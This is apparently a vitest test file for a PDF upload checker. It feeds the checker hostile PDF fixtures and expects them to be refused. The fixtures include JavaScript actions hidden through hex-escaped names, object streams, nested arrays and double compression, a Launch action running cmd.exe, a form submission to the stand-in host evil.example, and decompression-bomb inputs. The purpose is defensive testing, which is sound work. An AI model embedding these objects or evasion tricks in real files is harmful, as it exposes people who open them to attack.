import { deflateSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import { extractText } from "unpdf";
import { describe, expect, it } from "vitest";
import { aCertificatePdf } from "../../../../test/tax/certificates/certificate-pdf.ts";
import { aPdf, objectStream } from "../../../../test/platform/uploads/files.ts";
import { checkPdf } from "./pdf-check.ts";
import { inspectPdf } from "./pdf-inspection.ts";

const stream = (dictionary: string, content: Buffer) =>
  `4 0 obj << ${dictionary} /Length ${content.length} >> stream\n${content.toString("latin1")}\nendstream endobj`;
const action = (dictionary: string) => `4 0 obj << /Type /Action ${dictionary} >> endobj`;
const hidden = "<< /S /JavaScript /JS (app.alert(1)) >>";

/** The worker loads the parser. */
const WORKER_TIMEOUT_MS = 60_000;

describe("The check of a PDF", () => {
  it.each([
    ["text", "not-a-paper", Buffer.from("%PDF of a kind")],
    ["a web page", "not-a-paper", Buffer.from("<!doctype html><html></html>")],
    ["a web page in front of a PDF", "not-a-paper", Buffer.concat([Buffer.from("<html>"), aPdf()])],
    ["an archive", "not-a-paper", Buffer.from("PK\u0003\u0004")],
    ["half a PDF", "damaged-paper", aPdf().subarray(0, 120)],
    ["a PDF with trailing data", "damaged-paper", Buffer.concat([aPdf(), Buffer.alloc(5000, 65)])],
    ["a PDF with a web page in it", "active-paper", aPdf("<html><script>1</script></html>")],
    ["a PDF with an archive in it", "active-paper", aPdf("PK\u0003\u0004")],
    ["a PDF without a page", "damaged-paper", Buffer.from("%PDF-1.7\nstartxref\n0\n%%EOF\n")],
  ])("refuses %s as %s", async (_, problem, content) => {
    expect(await inspectPdf(content)).toBe(problem);
  });

  it.each([
    ["runs a program", action("/S /JavaScript /JS (app.alert(1))")],
    ["names it in codes of letters", action("/S /J#61vaScript /J#53 (app.alert(1))")],
    ["starts a program", action("/S /Launch /F (cmd.exe)")],
    ["opens another file", action("/S /GoToR /F (other.pdf)")],
    ["opens an embedded file", action("/S /GoToE /T << /R /C >>")],
    ["sends a form", action("/S /SubmitForm /F (https://evil.example)")],
    ["plays a rendition with a program", action("/S /Rendition /JS (app.alert(1))")],
    ["plays a movie", action("/S /Movie /T (film)")],
    ["has a form of another language", "4 0 obj << /AcroForm << /XFA [ (x) 5 0 R ] >> >> endobj"],
    ["embeds a file without saying so", "4 0 obj << /Type /Filespec /EF << /F 5 0 R >> >> endobj"],
    ["has rich media", "4 0 obj << /Subtype /RichMedia >> endobj"],
    ["hides it in an object stream", objectStream(hidden)],
    [
      "hides it behind a dictionary of many keys",
      objectStream(hidden).replace("/N 1", `/Pad (${"x".repeat(900)}) /N 1`),
    ],
    ["hides it in a nested array", `4 0 obj ${"[".repeat(50)} ${hidden} ${"]".repeat(50)} endobj`],
  ])("refuses one that %s", async (_, object) => {
    expect(await inspectPdf(aPdf(object))).toBe("active-paper");
  });

  it.each([
    [
      "is compressed twice",
      stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(hidden))),
    ],
    [
      "is compressed in a way that no writer uses there",
      stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", Buffer.from("x")),
    ],
    ["cannot be decompressed", stream("/Type /ObjStm /Filter /FlateDecode", Buffer.from("not packed"))],
    ["comes to more than anybody needs", objectStream(" ".repeat(30 * 1024 * 1024))],
    [
      "is encrypted in an unknown way",
      "trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P 1 >> >>",
    ],
  ])("refuses one that %s as damaged", async (_, object) => {
    expect(await inspectPdf(aPdf(object))).toBe("damaged-paper");
  });

  it(
    "writes an accepted PDF anew: only objects of the document are left of the file",
    async () => {
      const kept = await checkPdf(aPdf("% a remark between the objects\n4 0 obj (text of the document) endobj"), {
        account: "asha",
      });
      if (typeof kept === "string") throw new Error(kept);
      const pdf = await PDFDocument.load(kept);
      expect(pdf.getPageCount()).toBe(1);
      expect(Buffer.from(kept).toString("latin1")).not.toMatch(/a remark|OpenAction/);
    },
    WORKER_TIMEOUT_MS,
  );

  it.each(["1.3", "1.4", "1.6", "1.7ext3"] as const)(
    "takes one that is encrypted (PDF %s) under no password, as many official documents are, and keeps it decrypted",
    async (pdfVersion) => {
      const kept = await inspectPdf(await aCertificatePdf({}, { pdfVersion, ownerPassword: "of the office" }));
      if (typeof kept === "string") throw new Error(kept);
      expect(Buffer.from(kept).toString("latin1")).not.toContain("/Encrypt");
      expect((await extractText(new Uint8Array(kept), { mergePages: true })).text).toContain("FORM NO. 10BE");
    },
  );

  it("refuses one that opens under a password alone", async () => {
    const locked = await aCertificatePdf({}, { pdfVersion: "1.7", userPassword: "secret", ownerPassword: "other" });
    expect(await inspectPdf(locked)).toBe("damaged-paper");
  });

  it("accepts names that only begin like forbidden ones, in an object stream too", async () => {
    expect(typeof (await inspectPdf(aPdf(objectStream("<< /Type /Font /Name /JSerif >>"))))).toBe("object");
  });

  it("never calls a PDF damaged because the process that checks it did not start", async () => {
    const outcome = checkPdf(aPdf(), { account: "asha", workerFile: "/no-such-file.js" });
    await expect(outcome).rejects.toMatchObject({ code: "temporarily-unavailable" });
  });

  it("delays an account by at most one file of another account", async () => {
    const ended: string[] = [];
    const check = (name: string) =>
      checkPdf(aPdf(), { account: name.split(" ")[0]!, workerFile: "/no-such-file.js" }).catch(() => ended.push(name));
    await Promise.all(["asha 1", "asha 2", "asha 3", "asha 4", "ravi 1"].map(check));
    expect(ended).toEqual(["asha 1", "ravi 1", "asha 2", "asha 3", "asha 4"]);
  });

  it(
    "gives up on one that takes long, and meanwhile others are answered",
    async () => {
      // Nested without an end, as far as five megabytes go.
      const nested = aPdf(`4 0 obj ${"<</A ".repeat(900_000)} endobj`);
      let ticks = 0;
      const clock = setInterval(() => (ticks += 1), 20);
      const result = await checkPdf(nested, { account: "asha", deadlineMs: 1_000 });
      clearInterval(clock);
      expect(result).toBe("damaged-paper");
      expect(ticks).toBeGreaterThan(5);
    },
    WORKER_TIMEOUT_MS,
  );
});
